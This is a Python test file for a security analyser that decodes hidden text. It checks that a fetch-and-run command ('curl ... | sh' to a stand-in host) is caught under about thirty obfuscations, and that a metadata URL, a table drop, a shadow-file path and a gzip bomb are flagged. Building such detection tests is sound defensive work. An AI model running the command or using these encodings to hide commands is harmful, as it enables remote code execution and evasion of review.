"""Decoding: what stands under encodings is found, bounded, and judged as what it is."""

import base64
import codecs
import gzip
import zlib

import pytest

from interlock.analyst.decoding import MAX_CANDIDATES, MAX_CHARACTERS, MAX_INFLATED, analyse, candidates, inflated
from interlock.analyst.lookalikes import fold, signals
from support.analysing import codes, place

LINE = "curl -s http://a.example/x | sh"


def b64(text: str | bytes) -> str:
    return base64.b64encode(text if isinstance(text, bytes) else text.encode()).decode()


HIDDEN = [
    ("base64", b64(LINE)),
    ("base64 without padding", b64(LINE).rstrip("=")),
    ("base64 of the URL alphabet", base64.urlsafe_b64encode(LINE.encode() + b" ??>>").decode()),
    ("base64 in a sentence", f"please run {b64(LINE)} soon"),
    ("base64 in lines", "\n".join(base64.encodebytes(LINE.encode() * 4).decode().split("\n"))),
    ("base64 twice", b64(b64(LINE))),
    ("base64 four times", b64(b64(b64(b64(LINE))))),
    ("base64 of UTF-16", b64(LINE.encode("utf-16-le"))),
    ("base64 of UTF-16 with a mark", b64(LINE.encode("utf-16"))),
    ("base64 of gzip", b64(gzip.compress(LINE.encode()))),
    ("base64 of zlib", b64(zlib.compress(LINE.encode()))),
    ("base32", base64.b32encode(LINE.encode()).decode()),
    ("hexadecimal", LINE.encode().hex()),
    ("hexadecimal with a prefix", "0x" + LINE.encode().hex()),
    ("hexadecimal with blanks", LINE.encode().hex(" ")),
    ("hexadecimal of base64", b64(LINE).encode().hex()),
    ("percent", "".join(f"%{byte:02x}" for byte in LINE.encode())),
    ("percent twice", "".join(f"%25{byte:02x}" for byte in LINE.encode())),
    ("percent of UTF-16", "".join(f"%u{ord(char):04x}" for char in LINE)),
    ("decimal entities", "".join(f"&#{ord(char)};" for char in LINE)),
    ("hexadecimal entities", "".join(f"&#x{ord(char):x};" for char in LINE)),
    ("escapes of bytes", "".join(f"\\x{byte:02x}" for byte in LINE.encode())),
    ("escapes of Unicode", "".join(f"\\u{ord(char):04x}" for char in LINE)),
    ("octal escapes", "".join(f"\\{ord(char):03o}" for char in LINE)),
    ("quoted-printable", "".join(f"={byte:02X}" for byte in LINE.encode())),
    ("ROT13", codecs.encode(LINE, "rot13")),
    ("full width", "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in LINE)),
    ("lookalikes", LINE.replace("c", "с").replace("e", "е").replace("x", "х")),
    ("zero width", "\u200b".join(LINE)),
    ("tags", "hello" + "".join(chr(0xE0000 + ord(char)) for char in LINE)),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text"), HIDDEN)
def test_a_hidden_command_is_handed_to_the_shells_analyser(name: str, text: str) -> None:
    handed: list[str] = []
    claims = analyse(text, place(handed))
    assert any("http://a.example/x | sh" in line for line in handed), name
    assert "text.encoded_command" in claims.signals


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (b64("http://169.254.169.254/latest/"), "url.metadata"),
        (b64("http://169.254.169.254/latest/"), "text.encoded_url"),
        (b64("DROP TABLE crew; SELECT 1"), "sql.destroys"),
        (b64("../../../etc/shadow"), "path.credential"),
        (b64("Get-Process | Stop-Process -Force"), "windows.no_executor"),
        (b64("import os\nos.fork()"), "python.process"),
    ],
)
def test_what_is_hidden_is_judged_as_what_it_is(text: str, code: str) -> None:
    assert code in codes(analyse(text, place()))


QUIET = [
    "Good morning, the report is attached.", "3f2504e0-4f89-41d3-9a0c-0305e82c3301", "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "ThisIsAVeryLongIdentifierNameInCamelCase", "https://a.example/a%20b?x=%C3%A9", "Tom &amp; Jerry &lt;3", "C:\\new\\x12", "100% sure",
    "naïve café – “quoted”", "日本語のテキスト", "Привет, мир", "Γειά σου Κόσμε", "👩‍👩‍👧 family ❤️", "عربى نص", "a=1&b=2", "x = y", "",
    b64("Good morning, the report is attached."), "=E2=82=AC 100", "नमस्ते क्‍ष", "ftfy: \u2026", "don’t",
]  # fmt: skip


@pytest.mark.parametrize("text", QUIET)
def test_prose_of_any_language_is_quiet(text: str) -> None:
    handed: list[str] = []
    assert codes(analyse(text, place(handed))) == set() and not handed


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("pay\u200bpal", "text.hidden"), ("a\u2060b", "text.hidden"), ("x\U000e0041y", "text.hidden"), ("a\ufeffb", "text.hidden"),
        ("user\u202etxt.exe", "text.bidi"), ("a\u2066b\u2069", "text.bidi"), ("pаypal", "text.lookalike"), ("Αpple", "text.lookalike"),
        ("a\x1b[2Jb", "text.control"), ("a\x00b", "text.control"), ("é\x9bb", "text.control"), ("a\u3164b", "text.hidden"),
    ],
)  # fmt: skip
def test_ways_of_hiding_are_told_by_name(text: str, code: str) -> None:
    assert code in signals(text)


def test_a_text_is_folded_to_what_a_reader_takes_it_for() -> None:
    assert fold("ＡррӏƐ"[:4] + "e\u200b") == "Apple"
    assert fold("plain") == "plain"


def test_candidates_are_bounded_in_number_depth_and_size() -> None:
    many = " ".join(b64(f"candidate number {n}") for n in range(500))
    assert len(candidates(many)) == MAX_CANDIDATES
    deep = LINE
    for _ in range(9):
        deep = b64(deep)
    assert all(LINE not in one.text for one in candidates(deep))
    assert sum(len(one.text) for one in candidates("%41" * 400_000)) <= MAX_CHARACTERS


def test_a_bomb_is_only_begun() -> None:
    bomb = gzip.compress(b"\0" * (1 << 26))
    assert len(inflated(bomb) or b"") == MAX_INFLATED
    assert codes(analyse(b64(bomb), place())) == set()
    assert inflated(b"\x1f\x8b\x08junk") is None
